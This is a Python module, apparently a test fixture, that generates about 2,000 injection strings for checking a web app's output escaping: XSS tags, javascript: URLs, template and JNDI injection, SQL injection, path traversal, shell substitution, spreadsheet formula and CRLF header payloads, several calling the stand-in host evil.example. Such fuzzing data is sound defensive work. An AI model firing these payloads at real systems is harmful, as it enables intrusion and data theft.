"""Some 2,000 texts that would do harm wherever somebody forgot to escape them, made, not kept."""

import random
import re
from collections.abc import Iterator

ELEMENTS = (
    "<script>alert(N)</script>",
    "<ScRiPt src=//evil.example/N.js></sCrIpT>",
    "<scr<script>ipt>alert(N)</scr</script>ipt>",
    "<img src=x onerror=alert(N)>",
    "<img src=x:x onerror=\"alert('N')\">",
    "<svg/onload=alert(N)>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
    "<svg><script>alert(N)</script></svg>",
    '<iframe srcdoc="&lt;script&gt;alert(N)&lt;/script&gt;"></iframe>',
    "<iframe src=javascript:alert(N)>",
    "<object data=javascript:alert(N)>",
    "<embed src=//evil.example/N.swf>",
    "<style>*{background:url(//evil.example/N)}</style>",
    "<link rel=stylesheet href=//evil.example/N.css>",
    "<base href=//evil.example/N/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/N'>",
    "<form action=//evil.example/N><input name=password autofocus>",
    '<a href="javascript:alert(N)">N</a>',
    "<a href=' &#x6a;avascript:alert(N)'>N</a>",
    "<body onload=alert(N)>",
    "<details open ontoggle=alert(N)>",
    "<video><source onerror=alert(N)></video>",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(N)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(N)>">',
    "<template><script>alert(N)</script></template>",
    '<div hx-get="/N" hx-trigger="load">',
    '<div hx-on:load="alert(N)" data-hx-vals="js:{a:alert(N)}">',
    "<p style=position:fixed;inset:0>N",
    "<!--<img src='--><img src=x onerror=alert(N)//'>",
    "<![CDATA[<script>alert(N)</script>]]>",
    "<?php echo N ?>",
    "<%= N %>",
    "<table><tr><td>N</table></main></body></html>",
    "<plaintext>N",
    "<N",
    "<a<b>>N",
)
ATTRIBUTES = (
    '" onmouseover="alert(N)',
    "' onfocus='alert(N)' autofocus x='",
    '" autofocus onfocus=alert(N) x="',
    "` onerror=alert(N)",
    "x onpointerenter=alert(N) ",
    '"}, "N": {"',
    '" style="display:none" x="N',
    '" hx-get="/N" hx-trigger="load" x="',
)
ADDRESSES = (
    "javascript:alert(N)",
    "JaVaScRiPt:alert(N)",
    "data:text/html,<script>alert(N)</script>",
    "vbscript:msgbox(N)",
    "//evil.example/N",
    'https://evil.example/"onmouseover="alert(N)',
    "https://evil.example/<script>alert(N)</script>",
    "http://evil.example/'><img src=x onerror=alert(N)>",
    "evil.example/<svg/onload=alert(N)>.com",
    "mailto:N@evil.example?bcc=a@evil.example&body=<b>",
    "N<b>@evil.example",
    "https://user:N@evil.example/#\u202egnp.exe",
)
ENTITIES = (
    "&lt;script&gt;alert(N)&lt;/script&gt;",
    "&#60;script&#62;alert(N)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;N",
    "%3Cscript%3Ealert(N)%3C/script%3E",
    "\\u003cscript\\u003ealert(N)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(N)\\x3e",
    "+ADw-script+AD4-alert(N)+ADw-/script+AD4-",
    "＜script＞alert(N)＜/script＞",
)
TEMPLATES = (
    "{{ N }}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% static 'N' %}",
    '{% include "base.html" %}',
    "{% debug %}",
    "{% endblock %}{% endautoescape %}",
    "{# N #}",
    "{{ 7|add:N }}",
    "{{constructor.constructor('alert(N)')()}}",
    "${alert(N)}",
    "#{alert(N)}",
    "{N.__class__.__mro__}",
    "{0.__init__.__globals__[N]}",
    "%(N)s %s %d %n %",
    "$(touch N) `touch N`; touch N | touch N",
    "${jndi:ldap://evil.example/N}",
)
UNSEEN = (
    "\u202eN gnp.exe",
    "\u2066N\u2069\u2067N",
    "\u200bN\u200d\ufeff",
    "N\u2028N\u2029N",
    "N\x00N",
    "\x1b[31mN\x1b[2J\x1b]0;N\x07",
    "\x08\x08\x08N\x7f",
    "N\x85N\x9b31m",
    "N\ufffe\uffff",
)
SCRIPTS = (
    "👩‍👩‍👧‍👦🏴‍☠️N",
    "N\U0001f1e9\U0001f1ea\U0001f600",
    "N" + "\u0301\u0316" * 30,
    "ﷺ N İıßẞ",
    "𝓝 N ｆｕｌｌ",
    "漢字 N ไทย العربية",
)
BREAKS = (
    "N\r\nSet-Cookie: N=1",
    "N\nBcc: N@evil.example",
    "N\r\n\r\n<script>alert(N)</script>",
    "N\n2026-11-22 10:00:00,000 ERROR caseport N forged",
    "N\r\nContent-Disposition: inline; filename=N.html",
    "N\rN",
    "N\x0b\x0cN",
    "N%0d%0aSet-Cookie:N=1",
    'N"; filename="N.html',
)
FORMULAS = (
    "=1+N",
    '=HYPERLINK("//evil.example/N","N")',
    "+cmd|'/C calc'!N",
    "-2+3+cmd|'/C calc'!N",
    "@SUM(N)",
    "\t=N",
    "\r=N",
    "\n=N",
    ";=N",
    '","=N',
    "＝N",
)
WORDS = (
    "' OR N=N --",
    "'; DROP TABLE cases_case; -- N",
    "%_N\\",
    "../../../../etc/passwd?N",
    "..\\..\\N",
    "C:\\N.txt",
    ".htaccess N",
    "CON N",
    "null",
    "undefined",
    "[ref P-NNNNNNNN]",
    "-N",
    "N" * 300,
    "N " * 200,
)
BASES = (
    *(ELEMENTS + ATTRIBUTES + ADDRESSES + ENTITIES + TEMPLATES),
    *(UNSEEN + SCRIPTS + BREAKS + FORMULAS + WORDS),
)
BEFORE = (  # what might end the place a text stands in
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "</time></span></p></div>",
    "{{",
    "\u202e",
    "é",
    "\\",
)
UNSTORABLE = re.compile("[\x00\ud800-\udfff]")
TAME = re.compile(r"[^\w\s/\x00]")  # what parts an address, and what is refused, stays


def texts() -> list[str]:
    """All of them, each with a number of its own, the kinds well mixed; always the same."""
    made = [
        before + base.replace("N", str(10_000 + number * len(BEFORE) + beside))
        for number, base in enumerate(BASES)
        for beside, before in enumerate(BEFORE)
    ]
    random.Random(7).shuffle(made)
    return made


def storable(text: str) -> str:
    """The text as a database takes it."""
    return UNSTORABLE.sub("\ufffd", text)


def tame(text: str) -> str:
    """As long a text, with the same words and lines, that means nothing to anybody."""
    return TAME.sub("x", text).replace("_", "x")


class Supply:
    """Hands the texts out in turn, as many at once as a place holds."""

    def __init__(self, at: int = 0, *, harmless: bool = False) -> None:
        self._all = [storable(text) for text in texts()]
        self._at = at
        self._harmless = harmless

    def fill(self, room: int, alone: bool = False) -> str:
        """One text, cut if it must be, and more behind it while there is room.

        With `alone` it is told from every other by a number at its end.
        """
        if alone:
            told = f" {self._at}"
            return self.fill(room - len(told)) + told
        found = self._next()[:room]
        while len(found) + 1 < room and len(more := self._next()) < room - len(found):
            found += f" {more}"
        return tame(found) if self._harmless else found

    def bundle(self, count: int) -> str:
        """So many texts, one a line."""
        found = "\n".join(self._next() for _ in range(count))
        return tame(found) if self._harmless else found

    def _next(self) -> str:
        self._at += 1
        return self._all[self._at % len(self._all)]


def bundles(size: int) -> Iterator[str]:
    """Every text, so many at a time, one a line."""
    every = texts()
    for start in range(0, len(every), size):
        yield "\n".join(every[start : start + size])
